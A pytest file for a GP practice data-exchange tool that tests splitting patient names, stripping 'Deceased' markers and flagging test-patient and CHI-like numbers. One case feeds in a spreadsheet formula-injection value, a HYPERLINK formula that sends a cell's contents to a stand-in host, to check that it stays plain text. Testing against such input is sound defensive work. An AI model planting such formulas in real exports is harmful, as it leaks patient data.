"""Names and numbers as practice systems write them."""

from __future__ import annotations

from pathlib import Path

import pytest

from bhcp_desktop.exchange.registers.identity import Name, look_into, part_full_name, read_number
from bhcp_desktop.exchange.registers.notes import Notes
from tests.support.registers import (
    FAMILY,
    NUMBERS,
    changed,
    codes,
    read,
    read_emis,
    write,
)


@pytest.mark.parametrize("name", ["TESTA", "RIPLEY", "DECEASE", "ZZ", "XAVIER"])
def test_names_that_only_look_like_it_are_left_alone(tmp_path: Path, name: str) -> None:
    extract = read_emis(tmp_path, changed(FAMILY, name))
    assert extract.rows[0].family_name == name
    assert not extract.warned


def test_names_that_were_never_seen_with_a_comma(tmp_path: Path) -> None:
    header = ["Full Name", "NHS number", "Date of birth"]
    names = {
        "Mrs Siân Ó Briain": ("Mrs", "Siân", "Ó Briain"),
        "Mr Oliver St. John": ("Mr", "Oliver", "St. John"),
        "Ms Ana de la Mare": ("Ms", "Ana", "de la Mare"),
        "ROBSON Olivia (Miss)": ("Miss", "Olivia", "ROBSON"),
        "Rev Dr Mary Fell": ("Rev Dr", "Mary", "Fell"),
    }
    rows = [[name, number, "03 Feb 1942"] for name, number in zip(names, NUMBERS, strict=False)]
    extract = read(write(tmp_path, [header, *rows]))
    assert [(row.title, row.given_names, row.family_name) for row in extract.rows] == list(names.values())
    unsure = read(write(tmp_path, [header, ["Mr David Lloyd George", NUMBERS[0], "03 Feb 1942"]]))
    assert codes(unsure.warned) == [(2, "name_split")]


@pytest.mark.parametrize(
    ("written", "family", "given", "title"),
    [
        ("CAMPBELL, Kevin (Mr)", "CAMPBELL", "Kevin", "Mr"),
        ("CAMPBELL, Kevin John", "CAMPBELL", "Kevin John", ""),
        (", Kevin (Mr)", "", "Kevin", "Mr"),
        ("Master James Stevens", "Stevens", "James", "Master"),
        ("James Stevens", "Stevens", "James", ""),
        ("Cher", "Cher", "", ""),
        (
            '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
            '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
            "",
            "",
        ),
        ("HALL, Ann (Mrs) (Deceased)", "HALL", "Ann", "Mrs"),
    ],
)
def test_full_names_are_parted(written: str, family: str, given: str, title: str) -> None:
    name = part_full_name(written, Notes())
    assert (name.family, name.given, name.title) == (family, given, title)
    assert name.dead == ("Deceased" in written)


@pytest.mark.parametrize(
    "written", ["HALL (Deceased)", "HALL (dec'd)", "HALL - DECEASED", "*DECEASED* HALL", "(RIP) HALL"]
)
def test_what_was_written_into_a_name_is_taken_out(written: str) -> None:
    notes = Notes()
    assert look_into(Name(family=written), notes, "family_name").family == "HALL"
    assert [note.code for note in notes.found] == ["deceased"]


def test_a_scottish_number_is_taken_with_a_warning() -> None:
    notes = Notes()
    assert read_number("0101410018", notes) == "0101410018"
    assert [note.code for note in notes.found] == ["nhs_looks_like_chi"]


def test_a_name_that_may_be_a_test_record_is_kept_and_flagged(tmp_path: Path) -> None:
    extract = read_emis(tmp_path, changed(FAMILY, "TEST"))
    assert extract.rows[0].family_name == "TEST"
    assert [(found.line, found.code) for found in extract.warned] == [(2, "test_patient")]
